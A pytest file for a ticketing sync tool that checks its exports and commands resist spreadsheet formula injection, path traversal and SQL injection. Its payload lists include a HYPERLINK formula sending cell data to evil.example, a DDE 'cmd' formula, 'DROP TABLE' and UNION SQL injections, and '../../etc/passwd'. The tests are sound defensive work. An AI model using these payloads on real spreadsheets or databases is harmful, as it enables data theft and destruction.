"""
Foreign text never becomes a formula, a path, a command or SQL (F123–F125).
"""

import csv
import io
import json
import os
import re
import zipfile
from decimal import Decimal
from types import SimpleNamespace

import duckdb
import pytest
from hypothesis import given
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook
from support import commands, commands_here

from ticketsync.core.tables import Column, Kind, Table
from ticketsync.net import budget
from ticketsync.reporting import file_writers

# In process, as the console script does it: 200 starts would take minutes.
from ticketsync.sandbox import server, world
from ticketsync.store import engine
from ticketsync.store.tables.catalogue import occurrences, productions
from ticketsync.store.tables.sales import orders

PAYLOADS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "\0=1",
)


@given(
    payload=st.sampled_from(PAYLOADS),
    tail=st.text(max_size=20),
    number=st.integers(-(10**9), 10**9),
)
def test_f123_no_text_cell_begins_like_a_formula_and_numbers_stay_numbers(
    payload, tail, number
):
    stream = io.StringIO()
    columns = (
        Column("name"),
        Column("gross", Kind.MONEY),
        Column("n", Kind.COUNT),
        Column("currency"),
    )
    rows = [(payload + tail, number, number, "AUD")]
    file_writers.write(Table(columns, rows), "csv", stream)
    _, cells = csv.reader(io.StringIO(stream.getvalue(), newline=""))
    assert not cells[0].lstrip(" ").startswith(tuple("=+-@\t\r\n\0＝＋－＠"))
    assert cells[0].startswith("'")
    assert Decimal(cells[1]) == Decimal(number) / 100
    assert int(cells[2]) == number


@pytest.fixture(scope="module")
def venue(tmp_path_factory):
    """
    A synced venue whose productions and occurrences have malicious names.
    """
    folder = tmp_path_factory.mktemp("venue")
    sandbox = server.Sandbox(world.build(orders=80))
    environment = {**os.environ, "TT_KEY": sandbox.key, "TICKETSYNC_HOME": str(folder)}

    def run(*arguments):
        done = commands.run(*arguments, env=environment)
        run.code = done.returncode
        assert "Traceback" not in done.stderr, done.stderr
        return done

    run.folder = folder
    with server.serving(sandbox) as url:
        run(
            *("init", "--venue", "V", "--timezone", "Australia/Sydney"),
            *("--currency", "AUD", "--no-input"),
        )
        run(
            *("accounts", "add", "ticket_tailor", "tt", "--base-url", url),
            *("--secret-env", "TT_KEY"),
        )
        run("events", "fetch")
        run("shows", "adopt", "--all")
        run("sync", "--quiet")
        database = engine.open_database(str(folder / "ticketsync.db"))
        with database.write() as connection:
            columns = (
                (productions, "title"),
                (occurrences, "name"),
                (orders, "provider_id"),
            )
            for kind, column in columns:
                table = kind
                ids = connection.scalars(table.select()).all()
                for place, id_ in enumerate(ids):
                    evil = f"{PAYLOADS[place % len(PAYLOADS) - 1]} {place}"
                    connection.execute(
                        table.update().where(table.c.id == id_).values({column: evil})
                    )
        database.close()
        yield run


@pytest.mark.parametrize("what", ["sales", "financials", "fees", "refunds"])
def test_f123_every_export_is_harmless_and_its_sums_are_the_databases(venue, what):
    rows = list(csv.DictReader(io.StringIO(venue("export", what).stdout, newline="")))
    as_json = json.loads(venue("export", what, "--format", "json").stdout)
    assert len(rows) == len(as_json)
    for row in rows:
        for cell in row.values():
            is_number = re.fullmatch(r"-?\d+(\.\d+)?", cell)
            dangerous = cell.lstrip(" ").startswith(tuple("=+-@\t\r\n＝＋－＠"))
            assert is_number or not dangerous, cell
    for column in ("gross", "amount", "net_before_fees"):
        if rows and column in rows[0]:
            exported = sum(Decimal(row[column]) for row in rows if row[column])
            expected = sum(Decimal(row[column]) for row in as_json if row[column])
            assert exported == expected


OWN_ACCOUNTS = """
ledger:
  xero_tax_rate: No Tax
  accounts:
    Assets:Platform:Tt: "1-1210"
    Expenses:Fees:Tt: "6-1000"
    Income:Shows: "4-1000"
    Liabilities:Unearned: "2-1500"
"""


@pytest.fixture
def numbered(venue):
    settings = venue.folder / "config.yaml"
    before = settings.read_text()
    settings.write_text(before + OWN_ACCOUNTS)
    yield venue
    settings.write_text(before)


@pytest.mark.parametrize("program", ["hledger", "beancount"])
def test_f123_no_title_adds_a_line_to_books(venue, program):
    text = venue("export", "ledger", "--for", program).stdout
    assert venue.code == 0
    for line in text.splitlines():
        assert not line.startswith(("=", "+", "-", "@", "\t")), line


@pytest.mark.parametrize(
    ("program", "separator"), [("qbo", ","), ("myob", "\t"), ("xero", ",")]
)
def test_f123_no_title_is_a_formula_in_a_file_to_import(numbered, program, separator):
    text = numbered("export", "ledger", "--for", program, "--currency", "AUD").stdout
    assert numbered.code == 0
    assert len(text.splitlines()) > 3
    for line in text.splitlines():
        cells = next(csv.reader([line], delimiter=separator), [])
        assert not any(map(is_formula, cells)), line


HOSTILE_RULES = """
business: {legal_name: "=1+1", tax_number: "@SUM(A1:A9)"}
tax:
  codes: {gst: {rate: 10}}
  default: {admission: gst, buyer_fee: gst, addons: gst, donation: free,
            voucher: sold, prices: charged, fees: none}
"""
WORKSHEET = ("tax", "worksheet", "--period", "2000..2099", "--orders")


@pytest.fixture
def taxed(venue):
    settings = venue.folder / "config.yaml"
    before = settings.read_text()
    settings.write_text(before + HOSTILE_RULES)
    yield venue
    settings.write_text(before)


def test_f123_a_tax_worksheet_is_harmless_and_its_sums_are_the_databases(
    taxed, tmp_path
):
    whole = json.loads(taxed(*WORKSHEET, "--format", "json").stdout)["orders"]
    text = taxed(*WORKSHEET, "--format", "csv").stdout
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == len(whole) > 80
    assert any(row["order_id"].startswith("'=1+1") for row in rows)
    for row in rows:
        for name, cell in row.items():
            assert name in ("amount", "tax") or not is_formula(cell), cell
    file = tmp_path / "x.xlsx"
    taxed(*WORKSHEET, "-o", str(file))
    with zipfile.ZipFile(file) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >]", archive.read(name))
    sheet = CalamineWorkbook.from_path(file).get_sheet_by_name("tax worksheet")
    names, *cells = sheet.to_python()
    amounts = [Decimal(str(cell[names.index("amount")])) for cell in cells]
    assert amounts == [Decimal(row["amount"]) for row in whole]
    sold = [Decimal(row["amount"]) for row in whole if row["flow"] == "sale"]
    figures = json.loads(taxed("export", "financials", "--format", "json").stdout)
    assert sum(sold) == sum(Decimal(row["gross"]) for row in figures)
    assert "\0" not in taxed(*WORKSHEET).stdout


@pytest.mark.parametrize("what", ["sales", "financials", "fees", "refunds"])
def test_f123_a_workbook_has_no_formula_and_the_same_sums(venue, what, tmp_path):
    """
    Texts are as they are: a string cell cannot be a formula.
    """
    file = tmp_path / "x.xlsx"
    venue("export", what, "-o", str(file))
    with zipfile.ZipFile(file) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >]", archive.read(name))
    book = CalamineWorkbook.from_path(file)
    names, *cells = book.get_sheet_by_name(what).to_python()
    rows = json.loads(venue("export", what, "--format", "json").stdout)
    assert len(cells) == len(rows)
    for place, name in enumerate(names):
        if name == "production":
            texts = [row[name] for row in rows]
            assert [cell[place] for cell in cells] == [text or "" for text in texts]
        if name in ("gross", "amount", "charged", "fees", "net"):
            exact = [Decimal(row[name]) for row in rows if row[name] is not None]
            found = [Decimal(str(row[place])) for row in cells if row[place] != ""]
            assert found == exact


@pytest.mark.parametrize("what", ["sales", "financials", "fees", "refunds"])
def test_f123_parquet_has_the_same_rows(venue, what, tmp_path):
    file = tmp_path / "x.parquet"
    venue("export", what, "-o", str(file))
    rows = json.loads(venue("export", what, "--format", "json").stdout)
    with duckdb.connect(":memory:") as connection:
        # Instants in Python would need pytz.
        columns = "COLUMNS(lambda name: NOT ends_with(name, '_at'))"
        result = connection.execute(f"SELECT {columns} FROM read_parquet('{file}')")
        names = [column[0] for column in result.description]
        found = [dict(zip(names, row, strict=True)) for row in result.fetchall()]
    assert len(found) == len(rows)
    for name in {"production", "gross", "amount", "charged", "net"}.intersection(names):
        expected = [row[name] for row in rows]
        if name != "production":
            expected = [None if text is None else Decimal(text) for text in expected]
        assert [row[name] for row in found] == expected


def test_f123_json_lines_are_the_objects_of_the_json(venue):
    lines = venue("export", "sales", "--format", "jsonl").stdout.splitlines()
    whole = json.loads(venue("export", "sales", "--format", "json").stdout)
    assert [json.loads(line) for line in lines] == whole


def test_f123_raw_leaves_texts_as_they_are(venue):
    raw = venue("export", "financials", "--raw").stdout
    assert "=1+1" in raw
    assert "'=1+1" not in raw


@pytest.mark.parametrize(
    "name",
    ["../../etc/passwd", "a/b", "a\\b", "..", "", "nul\0", "x" * 5000, "a b", "CON:"],
)
def test_f124_an_account_cannot_be_named_like_a_path(venue, name):
    if "\0" in name:
        with pytest.raises(ValueError, match="null byte"):
            venue("accounts", "rename", "tt", name)
        return
    venue("accounts", "rename", "tt", name)
    assert venue.code == 2


@pytest.mark.parametrize(
    "name", ["../../x", "a/b\\c", "..", "Ünïcode", "x" * 5000, "a\0b", "con"]
)
def test_f124_names_become_a_short_slug(home, name):
    file = budget._file_of(name)
    assert file.parent == home / "state"
    assert re.fullmatch(r"calls-[a-z0-9-]{0,60}\.sqlite", file.name)


@pytest.mark.parametrize(
    "title", ["../../x", "a/b\\c", "", "Ünïcode", "x" * 5000, "con"]
)
def test_f124_a_door_list_is_filed_under_a_short_slug(title):
    show = SimpleNamespace(production=title, starts_local="2026-11-27 19:30", id=7)

    assert re.fullmatch(r"2026-11-27-[a-z0-9-]{1,60}-7", file_writers.file_name(show))


INJECTIONS = (
    "' OR '1'='1",
    "'; DROP TABLE orders; --",
    "1) UNION SELECT name FROM sqlite_master --",
    '" OR ""="',
    "%",
    "_",
    "\\",
    "1 OR 1=1",
    "x' AND (SELECT count(*) FROM accounts) > 0 --",
    "9" * 400,
    "-1",
    "😀",
)
TEXT_OPTIONS = (
    ("shows", "list", "--production"),
    ("shows", "show"),
    ("financials", "show"),
    ("financials", "explain"),
    ("runs", "show"),
    ("match", "--dry-run"),
    ("privacy", "export"),
    ("accounts", "check"),
    ("unlink",),
    ("attendees", "search"),
    ("attendees", "list", "--account"),
    ("checkin", "count"),
)


@pytest.mark.parametrize("words", TEXT_OPTIONS, ids=" ".join)
@pytest.mark.sampled(4)
def test_f125_no_option_reaches_the_database_as_sql(venue, words, monkeypatch, capsys):
    """
    Exit code 0, 2 or 10, never our bug; and the tables are all there afterwards.
    """
    monkeypatch.setenv("TICKETSYNC_HOME", str(venue.folder))
    for text in INJECTIONS:
        is_value = words[-1].startswith("--") and words[-1] != "--dry-run"
        asked = (*words, text) if is_value else (*words, "--", text)
        commands_here.run(monkeypatch, capsys, *asked, codes=(0, 2, 10))
    database = engine.open_database(str(venue.folder / "ticketsync.db"))
    with database.read() as connection:
        count = connection.exec_driver_sql("SELECT count(*) FROM orders")
        assert count.scalar() == 80
    database.close()


UNSEEN = (
    "\xa0",
    "\ufeff",
    "\u200b",
    "\u2060",
    "\xad",
    "\u3000",
    "\u2800",
    "\x01",
    "  ",
)
SIGNS = tuple("=+-@＝＋－＠﹦﹢﹣﹫")
HOSTILE_CELLS = (
    *(f"{unseen}{sign}1+1" for unseen in ("", *UNSEEN) for sign in SIGNS),
    *(
        f"a{mark}{u}{s}1+1"
        for mark in ";|\t\n\r"
        for u in ("", " ", *UNSEEN)
        for s in SIGNS
    ),
)


def cells_as_opened(text, separator):
    """
    The cells that a spreadsheet with that list separator makes of a file: a quotation
    mark counts only at the beginning of a cell.
    """
    reader = csv.reader(io.StringIO(text, newline=""), delimiter=separator)
    return [cell for row in reader for cell in row]


def is_formula(cell):
    shown = cell.lstrip("".join(UNSEEN) + " \t\r\n\0")
    return shown.startswith(SIGNS) and not re.fullmatch(r"-?\d+(\.\d+)?", shown)


def written(cells, *, raw=False):
    stream = io.StringIO()
    columns = (Column("name"), Column("gross", Kind.MONEY), Column("currency"))
    rows = [(cell, -500, "AUD") for cell in cells]
    file_writers.write(Table(columns, rows), "csv", stream, raw=raw)
    return stream.getvalue()


@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
def test_f123_no_cell_becomes_a_formula_with_any_list_separator(separator):
    for cell in HOSTILE_CELLS:
        found = cells_as_opened(written([cell]), separator)
        assert not any(map(is_formula, found)), (cell, found)


@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
def test_f123_control_unguarded_they_would(separator):
    found = cells_as_opened(written(HOSTILE_CELLS, raw=True), separator)
    assert sum(map(is_formula, found)) > len(SIGNS)


def test_f123_rows_of_objects_and_values_of_lists_are_guarded_alike():
    for cell in HOSTILE_CELLS:
        stream = io.StringIO()
        file_writers.write_csv([{"a": cell, "b": {"c": [cell]}}], ("a", "b"), stream)
        for separator in ",;\t|":
            found = cells_as_opened(stream.getvalue(), separator)
            assert not any(map(is_formula, found)), (cell, found)


@pytest.mark.parametrize(
    "cell",
    ["Gala", "Rock & Roll; live", "a = b", "x@example.org", "Fri-Sat", "1; 2|3", "–5"],
)
def test_f123_ordinary_texts_are_not_changed(cell):
    assert cells_as_opened(written([cell]), ",")[3] == cell


def test_f123_a_long_hostile_cell_is_guarded_in_linear_time():
    for piece in (";\xa0", "\t", "\u200b", "; ", "\n=", "a"):
        cell = piece * 100_000
        assert written([cell]).count("\n") >= 2
